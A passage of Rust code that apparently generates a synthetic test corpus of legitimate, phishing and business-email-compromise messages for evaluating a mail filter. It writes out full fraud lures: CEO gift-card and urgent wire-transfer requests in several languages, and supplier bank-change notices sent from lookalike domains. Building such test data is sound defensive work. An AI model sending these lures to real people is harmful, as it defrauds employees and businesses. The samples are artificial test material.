    to: String,
    subject: &str,
    date: String,
    body: Part,
) -> Msg {
    Msg {
        seed: seed.to_string(),
        mailer,
        from,
        to,
        subject: subject.to_string(),
        date,
        headers: Vec::new(),
        message_id: None,
        body,
    }
}

impl Msg {
    /// Adds a header after the standard ones.
    fn header(mut self, name: &str, value: &str) -> Self {
        self.headers.push(fold(name, value));
        self
    }

    fn message_id(mut self, id: &str) -> Self {
        self.message_id = Some(id.to_string());
        self
    }

    fn render(self) -> Vec<u8> {
        let mut rng = Rng::new(&self.seed);
        let domain = self
            .from
            .rsplit('@')
            .next()
            .unwrap_or("example.org")
            .trim_end_matches('>')
            .to_string();
        let id = self
            .message_id
            .clone()
            .unwrap_or_else(|| self.mailer.message_id(&mut rng, &domain));
        let subject = match self.mailer {
            Mailer::AppleMail | Mailer::IPhone | Mailer::Thunderbird => {
                encode_header_q(&self.subject)
            }
            _ => encode_header(&self.subject),
        };
        let mut lines: Vec<String> = Vec::new();
        match self.mailer {
            Mailer::Gmail => {
                lines.push("MIME-Version: 1.0".into());
                lines.extend(self.headers.iter().cloned());
                lines.push(format!("From: {}", self.from));
                lines.push(format!("Date: {}", self.date));
                lines.push(format!("Message-ID: {id}"));
                lines.push(fold("Subject", &subject));
                lines.push(fold("To", &self.to));
            }
            Mailer::Outlook => {
                lines.push(format!("From: {}", self.from));
                lines.push(fold("To", &self.to));
                lines.extend(self.headers.iter().cloned());
                lines.push(fold("Subject", &subject));
                lines.push(format!(
                    "Thread-Index: {}",
                    base64(&(0..22).map(|_| rng.below(256) as u8).collect::<Vec<u8>>())
                ));
                lines.push(format!("Date: {}", self.date));
                lines.push(format!("Message-ID: {id}"));
                lines.push("Accept-Language: en-US".into());
                lines.push("X-MS-Has-Attach:".into());
                lines.push("X-MS-TNEF-Correlator:".into());
                lines.push("MIME-Version: 1.0".into());
            }
            _ => {
                lines.push(format!("From: {}", self.from));
                lines.push(fold("To", &self.to));
                lines.push(fold("Subject", &subject));
                lines.push(format!("Date: {}", self.date));
                lines.push(format!("Message-ID: {id}"));
                lines.extend(self.headers.iter().cloned());
                if let Some(a) = self.mailer.agent(&mut rng) {
                    lines.push(a);
                }
                lines.push("MIME-Version: 1.0".into());
            }
        }
        let mut out = lines.join("\r\n");
        out.push_str("\r\n");
        render_part(&self.body, self.mailer, &mut rng, 0, &mut out);
        out.into_bytes()
    }
}

fn render_part(part: &Part, mailer: Mailer, rng: &mut Rng, depth: usize, out: &mut String) {
    match part {
        Part::Leaf { headers, body } => {
            for h in headers {
                out.push_str(h);
                out.push_str("\r\n");
            }
            out.push_str("\r\n");
            out.push_str(body);
        }
        Part::Multi {
            subtype,
            params,
            parts,
        } => {
            let b = mailer.boundary(rng, depth);
            out.push_str(&format!(
                "Content-Type: multipart/{subtype};\r\n\tboundary=\"{b}\"{params}\r\n\r\n"
            ));
            if depth == 0 && mailer != Mailer::Gmail {
                out.push_str("This is a multi-part message in MIME format.\r\n");
            }
            for p in parts {
                if !out.ends_with("\r\n") {
                    out.push_str("\r\n");
                }
                out.push_str(&format!("\r\n--{b}\r\n"));
                render_part(p, mailer, rng, depth + 1, out);
            }
            if !out.ends_with("\r\n") {
                out.push_str("\r\n");
            }
            out.push_str(&format!("\r\n--{b}--\r\n"));
        }
    }
}

/// A Message-ID for a message that this corpus does not contain (the one a
/// reply answers).
fn other_id(seed: &str, mailer: Mailer, domain: &str) -> String {
    mailer.message_id(&mut Rng::new(seed), domain)
}

// ---------------------------------------------------------------------------
// Envelopes.

/// Where a message comes from in SMTP.
struct Env {
    mail_from: String,
    ip: IpAddr,
    helo: String,
    auth: Auth,
    known: bool,
}

fn sample(
    kind: &'static str,
    i: usize,
    bad: bool,
    rcpt: &str,
    env: Env,
    message: Vec<u8>,
) -> Sample {
    Sample {
        name: format!("{kind}-{i:02}"),
        kind,
        bad,
        mail_from: env.mail_from,
        rcpt: rcpt.to_string(),
        client_ip: env.ip,
        helo: env.helo,
        auth: env.auth,
        known_sender: env.known,
        message,
    }
}

fn domain_of(addr: &str) -> &str {
    addr.rsplit('@').next().unwrap_or(addr)
}

/// An address in 198.51.100.0/24 or 2001:db8::/32 fixed by `seed`: the rest
/// of the world's legitimate servers.
fn world_ip(seed: &str) -> IpAddr {
    let h = hash(seed);
    if h.is_multiple_of(5) {
        IpAddr::V6(Ipv6Addr::new(
            0x2001,
            0xdb8,
            (h >> 8) as u16 & 0x0fff,
            0,
            0,
            0,
            0,
            1 + ((h >> 24) as u16 & 0xff),
        ))
    } else {
        IpAddr::V4(Ipv4Addr::new(198, 51, 100, 1 + (h >> 8) as u8 % 250))
    }
}

/// An address in 203.0.113.0/24 or 2001:db8:7a1::/48 fixed by `seed`:
/// rented servers and compromised hosts.
fn rented_ip(seed: &str) -> IpAddr {
    let h = hash(seed);
    if h.is_multiple_of(7) {
        IpAddr::V6(Ipv6Addr::new(
            0x2001,
            0xdb8,
            0x7a1,
            (h >> 16) as u16 & 0xff,
            0,
            0,
            0,
            1 + (h >> 32) as u16 % 200,
        ))
    } else {
        IpAddr::V4(Ipv4Addr::new(203, 0, 113, 1 + (h >> 8) as u8 % 250))
    }
}

/// Example Org's own submission servers.
fn internal_ip(i: usize) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(192, 0, 2, 10 + (i % 3) as u8))
}

/// The envelope of a message sent by a free-mail account through its
/// provider: the provider signs and its SPF covers the server.
fn freemail_env(addr: &str, i: usize, known: bool) -> Env {
    let d = domain_of(addr);
    let mut rng = Rng::new(&format!("{addr}{i}"));
    let helo = match d {
        "gmail.com" | "googlemail.com" => format!(
            "mail-{}{}-f{}.google.com",
            pick(&["ej", "wr", "ed", "lf", "pl", "qt", "yw"], i),
            rng.below(2) + 1,
            rng.below(200) + 41
        ),
        d if d.starts_with("outlook.")
            || d.starts_with("hotmail.")
            || d.starts_with("live.")
            || d == "msn.com" =>
        {
            format!(
                "{}-obe.outbound.protection.outlook.com",
                pick(
                    &[
                        "EUR05-AM6",
                        "EUR03-DBA",
                        "NAM12-BN8",
                        "NAM10-DM6",
                        "EUR02-VI1"
                    ],
                    i
                )
            )
        }
        d if d.starts_with("yahoo.") || d == "aol.com" || d == "ymail.com" => format!(
            "sonic{}-{}.consmr.mail.{}.yahoo.com",
            300 + rng.below(40),
            rng.below(60),
            pick(&["ne1", "bf2", "gq1", "ir2"], i)
        ),
        "icloud.com" | "me.com" | "mac.com" => format!("st43p00im-zteg{}.me.com", rng.digits(8)),
        "gmx.de" | "gmx.net" | "gmx.at" | "gmx.ch" => "mout.gmx.net".into(),
        "web.de" => "mout.web.de".into(),
        "mail.com" | "consultant.com" | "email.com" | "usa.com" => "mout.gmx.com".into(),
        "t-online.de" => format!("mailout{:02}.t-online.de", rng.below(12) + 1),
        "orange.fr" | "wanadoo.fr" => format!("smtp-{}.smtp.orange.fr", rng.below(30) + 10),
        "protonmail.com" | "proton.me" => "mail-4316.protonmail.ch".into(),
        _ => format!("smtp.{d}"),
    };
    Env {
        mail_from: addr.to_string(),
        ip: world_ip(&format!("{d}/{}", i % 4)),
        helo,
        auth: Auth::Aligned,
        known,
    }
}

/// An organisation's own mail server (or its Microsoft 365 tenant).
fn org_env(mail_from: &str, i: usize, auth: Auth, known: bool) -> Env {
    let d = domain_of(mail_from);
    let helo = if hash(d).is_multiple_of(3) {
        format!(
            "{}-obe.outbound.protection.outlook.com",
            pick(
                &[
                    "EUR05-AM6",
                    "EUR03-DBA",
                    "NAM12-BN8",
                    "EUR01-HE1",
                    "EUR02-VI1"
                ],
                i
            )
        )
    } else if hash(d) % 3 == 1 {
        format!("mail.{d}")
    } else {
        format!("mx{}.{d}", i % 2 + 1)
    };
    Env {
        mail_from: mail_from.to_string(),
        ip: world_ip(d),
        helo,
        auth,
        known,
    }
}

/// A bulk or service sender: an outbound host under its own domain.
fn service_env(mail_from: &str, helo: &str, auth: Auth, known: bool) -> Env {
    Env {
        mail_from: mail_from.to_string(),
        ip: world_ip(helo),
        helo: helo.to_string(),
        auth,
        known,
    }
}

/// Mail from a colleague through Example Org's own servers.
fn internal_env(mail_from: &str, i: usize) -> Env {
    Env {
        mail_from: mail_from.to_string(),
        ip: internal_ip(i),
        helo: pick(
            &[
                "mail.example.org",
                "smtp-out1.example.org",
                "smtp-out2.example.org",
            ],
            i,
        )
        .into(),
        auth: Auth::Aligned,
        known: true,
    }
}

/// An attacker's rented server or a compromised host.
fn attacker_env(mail_from: &str, i: usize, auth: Auth) -> Env {
    let d = domain_of(mail_from);
    let mut rng = Rng::new(&format!("{mail_from}{i}"));
    let helo = match i % 6 {
        0 => format!(
            "WIN-{}",
            rng.chars_from(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", 11)
        ),
        1 => format!("mail.{d}"),
        2 => format!("vps{}.contabo-host.example", rng.digits(6)),
        3 => "localhost".into(),
        4 => format!("srv{}.hostingcloud.example", rng.digits(4)),
        _ => d.to_string(),
    };
    Env {
        mail_from: mail_from.to_string(),
        ip: rented_ip(&format!("{mail_from}/{i}")),
        helo,
        auth,
        known: false,
    }
}

// ---------------------------------------------------------------------------
// Bodies the way common clients write them.

fn esc(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// Gmail's HTML for a plain message: `<div dir="ltr">` with `<br>`s.
fn gmail_html(text: &str) -> String {
    let mut out = String::from("<div dir=\"ltr\">");
    for (n, para) in text.trim_end().split("\n\n").enumerate() {
        if n > 0 {
            out.push_str("<div><br></div>");
        }
        let inner: Vec<String> = para.lines().map(esc).collect();
        out.push_str(&format!("<div>{}</div>", inner.join("<br>")));
    }
    out.push_str("</div>\n");
    out
}

/// Outlook's Word-generated HTML for a plain message.
fn outlook_html(text: &str) -> String {
    let mut out = String::from(
        "<html xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:w=\"urn:schemas-microsoft-com:office:word\" xmlns=\"http://www.w3.org/TR/REC-html40\">\n<head>\n<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n<meta name=\"Generator\" content=\"Microsoft Word 15 (filtered medium)\">\n</head>\n<body lang=\"EN-US\" link=\"#0563C1\" vlink=\"#954F72\" style=\"word-wrap:break-word\">\n<div class=\"WordSection1\">\n",
    );
    for line in text.trim_end().lines() {
        if line.trim().is_empty() {
            out.push_str("<p class=\"MsoNormal\"><o:p>&nbsp;</o:p></p>\n");
        } else {
            out.push_str(&format!(
                "<p class=\"MsoNormal\"><span style=\"font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif\">{}<o:p></o:p></span></p>\n",
                esc(line)
            ));
        }
    }
    out.push_str("</div>\n</body>\n</html>\n");
    out
}

/// Apple Mail's HTML for a plain message.
fn apple_html(text: &str) -> String {
    let mut out = String::from(
        "<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head><body dir=\"auto\">",
    );
    for line in text.trim_end().lines() {
        if line.is_empty() {
            out.push_str("<div><br></div>");
        } else {
            out.push_str(&format!("<div>{}</div>", esc(line)));
        }
    }
    out.push_str("</body></html>\n");
    out
}

fn gmail_body(text: &str) -> Part {
    alt(text, &gmail_html(text))
}

fn outlook_body(text: &str) -> Part {
    alt(text, &outlook_html(text))
}

/// A body as `mailer` writes it for the plain `text`.
fn body_for(mailer: Mailer, text: &str) -> Part {
    match mailer {
        Mailer::Gmail => gmail_body(text),
        Mailer::Outlook => outlook_body(text),
        Mailer::AppleMail => alt(text, &apple_html(text)),
        Mailer::Yahoo => alt(
            text,
            &format!(
                "<html><head></head><body><div class=\"ydp3f2a1c0eyahoo-style-wrap\" style=\"font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:13px;\">{}</div></body></html>\n",
                text.trim_end()
                    .lines()
                    .map(|l| if l.is_empty() {
                        "<div><br></div>".to_string()
                    } else {
                        format!("<div dir=\"ltr\">{}</div>", esc(l))
                    })
                    .collect::<String>()
            ),
        ),
        _ => plain(text),
    }
}

/// Gmail's attribution and `>` quoting.
fn quote_gmail(when: &str, who: &str, text: &str) -> String {
    let mut out = format!("On {when}, {who} wrote:\n");
    for l in text.trim_end().lines() {
        if l.is_empty() {
            out.push_str(">\n");
        } else {
            out.push_str(&format!("> {l}\n"));
        }
    }
    out
}

/// Outlook's header block before the earlier message, unquoted.
fn quote_outlook(from: &str, sent: &str, to: &str, subject: &str, text: &str) -> String {
    format!(
        "________________________________\nFrom: {from}\nSent: {sent}\nTo: {to}\nSubject: {subject}\n\n{}",
        text.trim_end()
    )
}

/// Money as the writer's locale prints it.
fn eur_de(cents: u64) -> String {
    let euros = cents / 100;
    let mut s = String::new();
    let digits = euros.to_string();
    for (n, c) in digits.chars().enumerate() {
        if n > 0 && (digits.len() - n).is_multiple_of(3) {
            s.push('.');
        }
        s.push(c);
    }
    format!("{s},{:02} €", cents % 100)
}

fn money_en(symbol: &str, cents: u64) -> String {
    let units = cents / 100;
    let mut s = String::new();
    let digits = units.to_string();
    for (n, c) in digits.chars().enumerate() {
        if n > 0 && (digits.len() - n).is_multiple_of(3) {
            s.push(',');
        }
        s.push(c);
    }
    format!("{symbol}{s}.{:02}", cents % 100)
}

fn eur_fr(cents: u64) -> String {
    eur_de(cents).replace('.', "\u{202f}")
}

// ---------------------------------------------------------------------------
// Example Org's real suppliers and partners.

struct Partner {
    company: &'static str,
    domain: &'static str,
    contact: &'static str,
    contact_addr: &'static str,
    billing: &'static str,
    city: &'static str,
    lang: &'static str,
}

const ACME: Partner = Partner {
    company: "Acme Supplies Ltd",
    domain: "acme-supplies.example",
    contact: "Maria Lopez",
    contact_addr: "maria.lopez@acme-supplies.example",
    billing: "accounts@acme-supplies.example",
    city: "Leeds",
    lang: "en",
};
const NORTHWIND: Partner = Partner {
    company: "Northwind Traders",
    domain: "northwind.example",
    contact: "Liam O'Connor",
    contact_addr: "liam.oconnor@northwind.example",
    billing: "billing@northwind.example",
    city: "Dublin",
    lang: "en",
};
const SCHMIDT: Partner = Partner {
    company: "Schmidt Bürotechnik GmbH",
    domain: "schmidt-buerotechnik.example",
    contact: "Petra Schmidt",
    contact_addr: "p.schmidt@schmidt-buerotechnik.example",
    billing: "buchhaltung@schmidt-buerotechnik.example",
    city: "Stuttgart",
    lang: "de",
};
const DUPONT: Partner = Partner {
    company: "Papeterie Dupont SARL",
    domain: "papeterie-dupont.example",
    contact: "Sophie Laurent",
    contact_addr: "s.laurent@papeterie-dupont.example",
    billing: "comptabilite@papeterie-dupont.example",
    city: "Lyon",
    lang: "fr",
};
const GARCIA: Partner = Partner {
    company: "Suministros García S.L.",
    domain: "suministros-garcia.example",
    contact: "Javier García",
    contact_addr: "javier.garcia@suministros-garcia.example",
    billing: "facturacion@suministros-garcia.example",
    city: "Valencia",
    lang: "es",
};
const FABRIKAM: Partner = Partner {
    company: "Fabrikam Engineering Inc.",
    domain: "fabrikam.example",
    contact: "Priya Raman",
    contact_addr: "priya.raman@fabrikam.example",
    billing: "ar@fabrikam.example",
    city: "Austin",
    lang: "en",
};
const TAILSPIN: Partner = Partner {
    company: "Tailspin Logistics",
    domain: "tailspin-logistics.example",
    contact: "Greg Walsh",
    contact_addr: "greg.walsh@tailspin-logistics.example",
    billing: "invoices@tailspin-logistics.example",
    city: "Rotterdam",
    lang: "en",
};
const LUCERNE: Partner = Partner {
    company: "Lucerne Publishing AG",
    domain: "lucerne-publishing.example",
    contact: "Annika Frei",
    contact_addr: "annika.frei@lucerne-publishing.example",
    billing: "rechnungen@lucerne-publishing.example",
    city: "Luzern",
    lang: "de",
};

const PARTNERS: [Partner; 8] = [
    ACME, NORTHWIND, SCHMIDT, DUPONT, GARCIA, FABRIKAM, TAILSPIN, LUCERNE,
];

// ===========================================================================
// Phishing and BEC.

/// Every phishing and BEC message.
pub fn bad() -> Vec<Sample> {
    let mut all = Vec::new();
    all.extend(ceo_gift_card());
    all.extend(ceo_wire_transfer());
    all.extend(supplier_bank_change());
    all.extend(payroll_diversion());
    all.extend(tax_form_request());
    all.extend(lookalike_own_domain());
    all.extend(display_name_spoof());
    all.extend(m365_credential_link());
    all.extend(ip_literal_link());
    all.extend(punycode_link());
    all.extend(html_form_body());
    all.extend(html_attachment_login());
    all.extend(zip_executable());
    all.extend(double_extension());
    all.extend(own_domain_spoof());
    all.extend(fake_docusign());
    all.extend(parcel_fee());
    all.extend(bank_account_locked());
    all.extend(brand_lookalike_sender());
    all
}

/// "Are you available?" from the CEO's name on a free-mail account, then the
/// gift cards.
fn ceo_gift_card() -> Vec<Sample> {
    const KIND: &str = "ceo-gift-card";
    struct V {
        addr: &'static str,
        display: &'static str,
        to: (&'static str, &'static str),
        mailer: Mailer,
        subject: &'static str,
        text: &'static str,
        reply_to: Option<&'static str>,
    }
    let vs = [
        V {
            addr: "janedoe.exec@gmail.com",
            display: "Jane Doe",
            to: BOB,
            mailer: Mailer::IPhone,
            subject: "Are you available?",
            text: "Hi Bob,\n\nAre you available? I need you to handle a task for me discreetly. I'm in a meeting right now and can't take calls, just reply to this email.\n\nJane\n\nSent from my iPhone\n",
            reply_to: None,
        },
        V {
            addr: "jane.doe.office01@outlook.com",
            display: "Jane Doe",
            to: ALICE,
            mailer: Mailer::Outlook,
            subject: "RE: Quick task",
            text: "Thanks for getting back to me.\n\nI want to surprise some of our staff with gift cards today as a thank-you for their hard work this quarter. I need you to purchase Apple gift cards, $200 x 5. Can you get that done quickly?\n\nOnce you have them, scratch the back to reveal the codes and send me clear pictures of them here. I'll reimburse you as soon as I'm out of this meeting.\n\nJane Doe\nCEO, Example Org\n\n________________________________\nFrom: Alice Martin <alice@example.org>\nSent: Tuesday, March 11, 2025 10:02 AM\nTo: Jane Doe <jane.doe.office01@outlook.com>\nSubject: Re: Quick task\n\nHi Jane, sure - what do you need?\n\nAlice\n",
            reply_to: None,
        },
        V {
            addr: "ceo.janedoe@gmail.com",
            display: "Jane Doe",
            to: CARLA,
            mailer: Mailer::IPhone,
            subject: "¿Estás disponible?",
            text: "Hola Carla,\n\n¿Estás disponible? Necesito que me hagas un favor urgente, pero estoy en una reunión y no puedo atender llamadas. Respóndeme por aquí.\n\nGracias,\nJane\n\nEnviado desde mi iPhone\n",
            reply_to: None,
        },
        V {
            addr: "jane.doe.ceo@gmx.net",
            display: "Jane Doe",
            to: DIETER,
            mailer: Mailer::Thunderbird,
            subject: "Kurze Frage",
            text: "Hallo Dieter,\n\nbist du gerade am Platz? Ich brauche kurz deine Hilfe bei einer Sache, die heute noch erledigt werden muss. Ich sitze in einem Meeting und kann nicht telefonieren, antworte mir bitte einfach per Mail.\n\nGruß\nJane\n",
            reply_to: None,
        },
        V {
            addr: "doejane.mobile@yahoo.com",
            display: "Jane Doe (CEO)",
            to: BOB,
            mailer: Mailer::Yahoo,
            subject: "Quick favor",
            text: "Bob,\n\nI need 6 Google Play gift cards of $100 each for a client appreciation - it's a surprise so please keep this between us for now. Can you pick them up from the nearest store? Let me know how soon you can get this done, then send me the card numbers.\n\nThanks\nJane\n",
            reply_to: Some("\"Jane Doe\" <janedoe.execoffice@gmail.com>"),
        },
        V {
            addr: "jdoe.direction@gmail.com",
            display: "Jane Doe",
            to: ALICE,
            mailer: Mailer::Gmail,
            subject: "Besoin d'aide",
            text: "Bonjour Alice,\n\nEs-tu disponible ? J'ai besoin que tu achètes des cartes cadeaux pour des clients, c'est une surprise donc reste discrète s'il te plaît. 5 cartes Amazon de 100 € chacune.\n\nTu grattes le dos, tu m'envoies les photos des codes et je te rembourse ce soir.\n\nMerci\nJane\n",
            reply_to: None,
        },
    ];
    vs.into_iter()
        .enumerate()
        .map(|(i, v)| {
            let name = format!("{KIND}-{i:02}");
            let mut m = msg(
                &name,
                v.mailer,
                mailbox(v.display, v.addr),
                person(v.to),
                v.subject,
                date(
                    8 + i,
                    9 * 60 + 17 + i * 23,
                    i * 7,
                    pick(&["-0500", "+0000", "+0100"], i),
                ),
                body_for(v.mailer, v.text),
            );
            if let Some(r) = v.reply_to {
                m = m.header("Reply-To", r);
            }
            let mut known = false;
            if v.subject.starts_with("RE:") {
                let earlier = other_id(&format!("{name}-earlier"), Mailer::Outlook, "example.org");
                m = m
                    .header("In-Reply-To", &earlier)
                    .header("References", &earlier);
                // Alice answered the first message: the address is now a correspondent.
                known = true;
            }
            sample(
                KIND,
                i,
                true,
                v.to.1,
                freemail_env(v.addr, i, known),
                m.render(),
            )
        })
        .collect()
}

/// The CEO asking finance for a confidential same-day transfer.
fn ceo_wire_transfer() -> Vec<Sample> {
    const KIND: &str = "ceo-wire-transfer";
    let mut out = Vec::new();

    // 0: free-mail, the acquisition story.
    let name = format!("{KIND}-00");
    let text = "John,\n\nAre you at your desk? I need you to process a wire transfer today. We are finalizing a confidential acquisition and the deposit has to be paid before close of business. Our attorney, Richard Hale, will email you the wire instructions shortly.\n\nPlease keep this strictly confidential until we make the official announcement - do not discuss it with anyone in the office, including the team.\n\nAmount: $86,400.00\n\nLet me know as soon as you get this.\n\nJane\n";
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Jane Doe", "ceo.jdoe@outlook.com"),
        person(CFO),
        "Wire transfer",
        date(9, 14 * 60 + 3, 41, "-0500"),
        outlook_body(text),
    );
    out.push(sample(
        KIND,
        0,
        true,
        CFO.1,
        freemail_env("ceo.jdoe@outlook.com", 0, false),
        m.render(),
    ));

    // 1: lookalike domain with its own SPF and DKIM, forwarding the "attorney".
    let name = format!("{KIND}-01");
    let text = "John,\n\nPlease see below from Richard regarding Project Lighthouse. I've approved it, please arrange the transfer today and send me the confirmation. Keep this between us for now, the board will be informed next week.\n\nThanks,\nJane\n\n---------- Forwarded message ---------\nFrom: Richard Hale <r.hale@hale-brandt-law.example>\nDate: Wed, Mar 12, 2025 at 4:18 PM\nSubject: Project Lighthouse - escrow deposit\nTo: Jane Doe <jane.doe@example-org.com>\n\nDear Ms. Doe,\n\nFurther to our call, please find below the escrow instructions for the initial deposit (10% of the agreed consideration). Funds must be received by 3 pm EST tomorrow to keep the exclusivity period.\n\nBeneficiary: Hale & Brandt LLP Client Escrow\nBank: First Coastal Bank, N.A.\nAccount no.: 4471920385\nABA routing: 067014822\nSWIFT: FCBKUS33\nReference: LIGHTHOUSE-0312\nAmount: USD 248,500.00\n\nKind regards,\nRichard Hale\nPartner, Hale & Brandt LLP\n";
    let m = msg(
        &name,
        Mailer::Gmail,
        mailbox("Jane Doe", "jane.doe@example-org.com"),
        person(CFO),
        "Fwd: Project Lighthouse - escrow deposit",
        date(10, 8 * 60 + 51, 12, "-0500"),
        gmail_body(text),
    );
    out.push(sample(
        KIND,
        1,
        true,
        CFO.1,
        attacker_env("jane.doe@example-org.com", 1, Auth::Aligned),
        m.render(),
    ));

    // 2: short, from an unauthenticated lookalike, to accounts payable.
    let name = format!("{KIND}-02");
    let text = "Hi,\n\nPlease process a same-day wire of EUR 38,950.00 to the beneficiary below. It is for the consultancy agreement in Lyon, I will forward you the signed contract later today. Confirm once sent.\n\nBeneficiary: Conseil Aubert & Associés\nIBAN: FR76 3000 4028 3798 7654 3210 943\nBIC: BNPAFRPPXXX\n\nJane\n\nSent from my iPad\n";
    let m = msg(
        &name,
        Mailer::IPhone,
        mailbox("Jane Doe", "ceo@exarnple.org"),
        person(AP),
        "Urgent payment today",
        date(11, 7 * 60 + 40, 3, "+0100"),
        plain(text),
    );
    out.push(sample(
        KIND,
        2,
        true,
        AP.1,
        attacker_env("ceo@exarnple.org", 2, Auth::Unauthenticated),
        m.render(),
    ));

    // 3: German, to Dieter.
    let name = format!("{KIND}-03");
    let text = "Hallo Dieter,\n\nich brauche heute noch eine dringende Überweisung. Es geht um eine vertrauliche Übernahme, die wir diese Woche abschließen - bitte behandle das streng vertraulich, auch intern.\n\nBetrag: 64.200,00 EUR\nEmpfänger: Kanzlei Vogt & Partner Treuhandkonto\nIBAN: DE44 5001 0517 5407 3249 31\nVerwendungszweck: Anzahlung Projekt Nordlicht\n\nBitte gib mir kurz Bescheid, sobald die Zahlung raus ist. Ich bin den ganzen Tag in Besprechungen und nur per Mail erreichbar.\n\nDanke dir\nJane\n";
    let m = msg(
        &name,
        Mailer::Thunderbird,
        mailbox("Jane Doe", "jane.doe.ceo@gmx.net"),
        person(DIETER),
        "Dringend - vertraulich",
        date(15, 11 * 60 + 12, 55, "+0100"),
        plain(text),
    );
    out.push(sample(
        KIND,
        3,
        true,
        DIETER.1,
        freemail_env("jane.doe.ceo@gmx.net", 3, false),
        m.render(),
    ));

    // 4: Spanish, to Carla, Reply-To elsewhere.
    let name = format!("{KIND}-04");
    let text = "Carla,\n\nNecesito que realices una transferencia urgente hoy mismo a un proveedor nuevo para cerrar un acuerdo confidencial. Te paso los datos en cuanto me confirmes que puedes encargarte. Por favor, no se lo comentes a nadie hasta que lo anunciemos.\n\nEstoy en una reunión y no puedo hablar por teléfono.\n\nSaludos,\nJane Doe\nCEO\n";
    let m = msg(
        &name,
        Mailer::Php,
        mailbox("Jane Doe", "jane.doe@examp1e.org"),
        person(CARLA),
        "Transferencia - confidencial",
        date(16, 9 * 60 + 5, 18, "+0100"),
        plain(text),
    )
    .header("Reply-To", "Jane Doe <jane.doe.direccion@proton.me>");
    out.push(sample(
        KIND,
        4,
        true,
        CARLA.1,
        attacker_env("jane.doe@examp1e.org", 4, Auth::Aligned),
        m.render(),
    ));
    out
}

/// A supplier's "new bank details": lookalike domains, free-mail replies, a
/// hijacked thread from the supplier's real (compromised) mailbox.
fn supplier_bank_change() -> Vec<Sample> {
    const KIND: &str = "supplier-bank-change";
    let mut out = Vec::new();

    // 0: lookalike of Acme, letter attached.
    let name = format!("{KIND}-00");
    let text = "Dear Accounts Payable,\n\nPlease be advised that Acme Supplies Ltd has changed its banking details following a review with our auditors. With immediate effect, all future payments should be made to our new account below. Our previous account will be closed at the end of this month and payments sent there will be returned.\n\nBank: Metro Commerce Bank plc\nAccount name: Acme Supplies Ltd\nSort code: 40-12-76\nAccount number: 71839204\nIBAN: GB29 MCOB 4012 7671 8392 04\n\nPlease find attached our confirmation letter on company letterhead. Kindly update your records and confirm by return email once done, as we have two invoices falling due this week.\n\nKind regards,\n\nMaria Lopez\nAccounts Receivable\nAcme Supplies Ltd\nUnit 4, Kirkstall Industrial Park, Leeds LS5 3BT\nTel: +44 113 496 0321\n";
    let letter = pdf(&[
        "Acme Supplies Ltd",
        "Unit 4, Kirkstall Industrial Park, Leeds LS5 3BT",
        "",
        "To whom it may concern,",
        "",
        "Change of bank details",
        "Please note our new bank account for all future remittances:",
        "Metro Commerce Bank plc  Sort code 40-12-76  Account 71839204",
        "",
        "Yours faithfully, M. Lopez, Accounts Receivable",
    ]);
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Maria Lopez", "maria.lopez@acme-supp1ies.example"),
        person(AP),
        "Updated banking details - Acme Supplies Ltd",
        date(4, 10 * 60 + 22, 9, "+0000"),
        mixed(vec![
            outlook_body(text),
            attachment_outlook(
                "application/pdf",
                "Acme_Supplies_Bank_Change_Letter.pdf",
                &letter,
                "Tue, 04 Mar 2025 10:20:11 GMT",
            ),
        ]),
    );
    out.push(sample(
        KIND,
        0,
        true,
        AP.1,
        attacker_env("maria.lopez@acme-supp1ies.example", 0, Auth::Aligned),
        m.render(),
    ));

    // 1: the supplier's real mailbox, compromised, replying in an existing
    // thread with a Reply-To to free-mail.
    let name = format!("{KIND}-01");
    let earlier = other_id(&format!("{name}-ap"), Mailer::Outlook, "example.org");
    let first = other_id(
        &format!("{name}-inv"),
        Mailer::Outlook,
        "acme-supplies.example",
    );
    let text = format!(
        "Hello,\n\nThank you for the remittance confirmation.\n\nPlease note that our bank details have changed due to an ongoing audit of our old account. Kindly hold the payment for INV-20417 and remit it, and all our subsequent invoices, to the new account below:\n\nBank: Halden Trust Bank\nAccount name: Acme Supplies Ltd\nSort code: 23-14-70\nAccount number: 30915528\n\nKindly confirm once you've updated your records so I can inform our finance team.\n\nBest regards,\nMaria\n\n{}",
        quote_outlook(
            "Accounts Payable <ap@example.org>",
            "Monday, March 10, 2025 3:41 PM",
            "Maria Lopez <maria.lopez@acme-supplies.example>",
            "RE: Invoice INV-20417",
            "Hi Maria,\n\nINV-20417 is approved and scheduled for our payment run on Thursday.\n\nRegards,\nAccounts Payable\nExample Org",
        )
    );
    let m = msg(
        &name,
        Mailer::Outlook,
        mailbox("Maria Lopez", "maria.lopez@acme-supplies.example"),
        person(AP),
        "RE: Invoice INV-20417",
        date(8, 8 * 60 + 2, 33, "+0000"),
        outlook_body(&text),
    )
    .header(
        "Reply-To",
        "Maria Lopez <acme.accounts.receivable@outlook.com>",
    )
    .header("In-Reply-To", &earlier)
    .header("References", &format!("{first} {earlier}"));
    let mut env = org_env("maria.lopez@acme-supplies.example", 1, Auth::Aligned, true);
    env.ip = rented_ip("acme-compromised");
    env.auth = Auth::Aligned;
    out.push(sample(KIND, 1, true, AP.1, env, m.render()));

    // 2: German supplier, one letter changed.
    let name = format!("{KIND}-02");
    let text = "Sehr geehrte Damen und Herren,\n\nwir möchten Sie darüber informieren, dass sich unsere Bankverbindung geändert hat. Bitte überweisen Sie ab sofort alle offenen und künftigen Rechnungsbeträge ausschließlich auf das folgende Konto:\n\nKontoinhaber: Schmidt Bürotechnik GmbH\nBank: Nordbank Direkt AG\nIBAN: DE61 2003 0000 0094 7621 35\nBIC: NBDADEHHXXX\n\nUnsere alte Bankverbindung ist ab dem 15.03.2025 nicht mehr gültig. Bitte bestätigen Sie uns kurz die Änderung in Ihrem System.\n\nMit freundlichen Grüßen\n\nPetra Schmidt\nBuchhaltung\nSchmidt Bürotechnik GmbH\nRotebühlstraße 121, 70178 Stuttgart\n";
    let m = msg(
        &name,
        Mailer::Thunderbird,
